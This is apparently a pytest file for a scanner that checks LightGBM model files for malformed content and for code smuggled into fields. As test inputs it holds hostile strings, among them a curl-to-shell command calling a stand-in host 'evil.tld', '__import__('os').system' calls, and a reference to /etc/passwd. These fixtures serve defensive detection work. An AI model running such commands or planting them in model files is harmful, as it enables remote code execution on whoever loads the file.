from __future__ import annotations

import numpy
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lightgbm import LGBMClassifier

from modelward.formats.facts import Malformed, Overflow
from modelward.formats.lightgbm import problems
from modelward.formats.metadata_code import MetadataCode
from modelward.formats.source import BytesSource

SMALL = (
    "tree\nversion=v4\nnum_class=1\nfeature_names=os.system eval(\n\nTree=0\nnum_leaves=2\nsplit_feature=0\n"
    "threshold=0.5\nleaf_value=1 2\n\nend of trees\n\nfeature_importances:\na=3\n\n"
    "parameters:\n[boosting: gbdt]\n[data: /etc/passwd]\n\nend of parameters\n\npandas_categorical:[]\n"
)


def found(text: str | bytes) -> list[object] | None:
    data = text.encode() if isinstance(text, str) else text
    result = problems(BytesSource(data))
    return None if result is None else list(result)


def test_model_is_data_whatever_its_words_are() -> None:
    assert found(SMALL) == []
    assert found(SMALL.replace("\n", "\r\n")) == []


def model() -> bytes:
    numbers = numpy.random.default_rng(0)
    fitted = LGBMClassifier(n_estimators=3, verbose=-1, num_threads=1)
    fitted.fit(numbers.random((80, 4)), numpy.arange(80) % 2)
    text: str = fitted.booster_.model_to_string()
    return text.encode()


@pytest.mark.filterwarnings("ignore")
def test_model_of_the_library_itself_is_clean() -> None:
    assert found(model()) == []


@pytest.mark.parametrize("leaves", ["-1", "99999999999", "131073"])
def test_trees_of_numbers_that_overflow(leaves: str) -> None:
    (fact,) = found(SMALL.replace("num_leaves=2", f"num_leaves={leaves}")) or [None]
    assert isinstance(fact, Overflow)


@pytest.mark.parametrize("change", [("leaf_value=1 2", "leaf_value=1"), ("num_leaves=2", "num_leaves=x")])
def test_trees_that_do_not_add_up(change: tuple[str, str]) -> None:
    assert [type(fact) for fact in found(SMALL.replace(*change)) or []] == [Malformed]


@pytest.mark.parametrize(
    "text",
    [
        "tree\n",
        "tree\nof life\n",
        "forest\nversion=1\nnum_class=1\n",
        SMALL + "import os\n",
        SMALL.replace("Tree=0", "import os; os.system('id')"),
        SMALL.replace("a=3", "import os"),
        SMALL.replace("[boosting: gbdt]", "os.system('id')"),
    ],
)
def test_other_text_is_no_model(text: str) -> None:
    assert found(text) is None


@settings(max_examples=100, deadline=None)
@given(st.integers(0, 400), st.binary(max_size=20))
def test_changed_models_raise_nothing(at: int, junk: bytes) -> None:
    data = SMALL.encode()
    found(data[: at % len(data)] + junk + data[at % len(data) :])


@pytest.mark.parametrize(
    ("field", "line"),
    [
        ("feature_names=", "metadata=os.system('curl http://evil.tld | sh')"),
        ("[boosting: gbdt]", "[objective: __import__('os').system('id')]"),
    ],
)
def test_program_in_a_field_is_noticed(field: str, line: str) -> None:
    result = found(SMALL.replace(field, f"{line}\n{field}", 1))
    assert [type(fact) for fact in result or []] == [MetadataCode]
